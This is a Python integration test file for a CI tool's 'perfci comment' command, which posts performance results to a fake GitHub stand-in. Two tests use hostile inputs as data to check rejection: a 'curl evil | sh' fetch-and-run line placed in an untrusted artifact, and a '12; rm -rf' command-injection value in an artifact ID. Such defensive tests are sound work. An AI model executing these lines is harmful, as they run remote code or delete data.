"""`perfci comment` as perf-comment.yml runs it, against the local GitHub stand-in: the artifact is always
validated, the links point at the measuring run, and the command needs only the publishing dependencies."""

from __future__ import annotations

import os
import subprocess
import sys
import textwrap
from collections.abc import Iterator
from pathlib import Path

import pytest

from perfci.cli import main
from perfci.commands.comment import actions_links
from perfci.errors import ExitCode
from tests.fakes.fake_github import FakeGitHub, PullRequest, serve
from tests.golden.fixtures import infrastructure_failure, regression

pytestmark = pytest.mark.integration

SHA = "9f8e7d6c5b4a39281706f5e4d3c2b1a098765432"
ROOT = Path(__file__).resolve().parents[2]
# What `perfci comment` must run without: the perf-comment job installs perfci with --no-deps beside the
# `publish` dependency group only.
HEAVY = ("pandas", "scipy", "numpy", "locust", "matplotlib", "pyarrow", "rich", "psycopg", "psutil", "otava")


@pytest.fixture
def github() -> Iterator[FakeGitHub]:
    fake = FakeGitHub()
    fake.pulls.append(PullRequest(number=7, head_sha=SHA))
    with serve(fake):
        yield fake


def _environment(fake: FakeGitHub, **extra: str) -> dict[str, str]:
    return {
        "GITHUB_TOKEN": "t0ken",
        "GITHUB_REPOSITORY": fake.repository,
        "GITHUB_API_URL": fake.url,
        "GITHUB_SERVER_URL": "https://github.com",
        "GITHUB_RUN_ID": "222",  # the comment workflow's own run
        **extra,
    }


def _artifact(tmp_path: Path, padding: int = 0) -> Path:
    folder = tmp_path / "perfci-report"
    folder.mkdir()
    (folder / "comparison.json").write_text(regression().model_dump_json() + " " * padding)
    return folder


def _comment(fake: FakeGitHub, source: Path, monkeypatch: pytest.MonkeyPatch, *flags: str, **env: str) -> int:
    for key, value in _environment(fake, **env).items():
        monkeypatch.setenv(key, value)
    return main(["comment", str(source), "--sha", SHA, "--api-url", fake.url, "--check", *flags])


def test_an_infrastructure_failure_is_posted_as_no_verdict_and_fails_the_check(
    github: FakeGitHub, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = tmp_path / "perfci-report"
    folder.mkdir()
    (folder / "comparison.json").write_text(infrastructure_failure().model_dump_json())

    assert _comment(github, folder, monkeypatch, PERFCI_REPORT_RUN_ID="111") == ExitCode.OK

    (comment,) = github.comments[7]
    assert "## ⚠️ perfci: no verdict: infrastructure failure: service not healthy" in comment["body"]
    assert "regression" not in comment["body"]
    (check,) = github.check_runs
    assert check["conclusion"] == "failure"
    assert check["output"]["title"].startswith("no verdict: infrastructure failure: service not healthy")
    assert "regression" not in check["output"]["title"]


def test_a_run_json_does_not_make_an_artifact_trusted(
    github: FakeGitHub, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = _artifact(tmp_path, padding=int(7.6 * 1024 * 1024))  # over the 5 MiB limit of comparison.json
    (folder / "run.json").write_text("{}")
    (folder / "unexpected.sh").write_text("curl evil | sh\n")

    assert _comment(github, folder, monkeypatch) == ExitCode.USAGE
    assert "error: artifact" in capsys.readouterr().err
    assert github.comments == {}
    assert github.check_runs == []


def test_a_run_directory_is_read_as_is_only_when_the_caller_says_so(
    github: FakeGitHub, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = _artifact(tmp_path)
    (folder / "run.json").write_text("{}")
    (folder / "trials.parquet").write_bytes(b"PAR1")
    monkeypatch.delenv("PERFCI_REPORT_RUN_ID", raising=False)

    assert _comment(github, folder, monkeypatch) == ExitCode.USAGE
    assert _comment(github, folder, monkeypatch, "--run-dir") == ExitCode.OK
    assert len(github.comments[7]) == 1


def test_the_comment_links_to_the_measuring_run_and_its_artifact(
    github: FakeGitHub, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    env = {"PERFCI_REPORT_RUN_ID": "111", "PERFCI_REPORT_ARTIFACT_ID": "4242"}
    assert _comment(github, _artifact(tmp_path), monkeypatch, **env) == ExitCode.OK

    body = github.comments[7][0]["body"]
    assert "[workflow run](https://github.com/acme/users/actions/runs/111)" in body
    assert "[HTML report and data](https://github.com/acme/users/actions/runs/111/artifacts/4242)" in body
    assert "runs/222" not in body
    assert github.check_runs[0]["details_url"] == "https://github.com/acme/users/actions/runs/111"


def test_without_the_artifact_id_the_report_link_goes_to_the_runs_artifact_list(
    github: FakeGitHub, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("PERFCI_REPORT_ARTIFACT_ID", raising=False)
    assert _comment(github, _artifact(tmp_path), monkeypatch, PERFCI_REPORT_RUN_ID="111") == ExitCode.OK
    body = github.comments[7][0]["body"]
    assert "[HTML report and data](https://github.com/acme/users/actions/runs/111#artifacts)" in body


@pytest.mark.parametrize(
    ("environ", "expected"),
    [
        ({}, (None, None)),
        ({"GITHUB_RUN_ID": "5"}, (None, None)),
        (
            {"GITHUB_SERVER_URL": "https://ghe.example", "GITHUB_REPOSITORY": "a/b", "GITHUB_RUN_ID": "5"},
            ("https://ghe.example/a/b/actions/runs/5", "https://ghe.example/a/b/actions/runs/5#artifacts"),
        ),
        (
            {
                "GITHUB_SERVER_URL": "https://github.com",
                "GITHUB_REPOSITORY": "a/b",
                "GITHUB_RUN_ID": "5",
                "PERFCI_REPORT_RUN_ID": "9",
                "PERFCI_REPORT_ARTIFACT_ID": "12; rm -rf",
            },
            ("https://github.com/a/b/actions/runs/9", "https://github.com/a/b/actions/runs/9#artifacts"),
        ),
    ],
    ids=["outside-actions", "no-server", "own-run", "bad-artifact-id"],
)
def test_actions_links(environ: dict[str, str], expected: tuple[str | None, str | None]) -> None:
    assert actions_links(environ) == expected


def test_perfci_comment_runs_without_the_measuring_dependencies(github: FakeGitHub, tmp_path: Path) -> None:
    script = textwrap.dedent(
        f"""
        import importlib.abc, sys

        class Refuse(importlib.abc.MetaPathFinder):
            def find_spec(self, name, path=None, target=None):
                if name.split(".")[0] in {HEAVY!r}:
                    raise ImportError(f"{{name}} is not installed in the comment job")
                return None

        sys.meta_path.insert(0, Refuse())
        from perfci.cli import main
        sys.exit(main(sys.argv[1:]))
        """
    )
    env = {**os.environ, **_environment(github, PERFCI_REPORT_RUN_ID="111")}
    result = subprocess.run(
        [sys.executable, "-c", script, "comment", str(_artifact(tmp_path)), "--sha", SHA, "--check"],
        capture_output=True,
        text=True,
        cwd=ROOT,
        env=env,
        timeout=120,
        check=False,
    )
    assert result.returncode == 0, result.stderr
    assert len(github.comments[7]) == 1
    assert [r["conclusion"] for r in github.check_runs] == ["failure"]
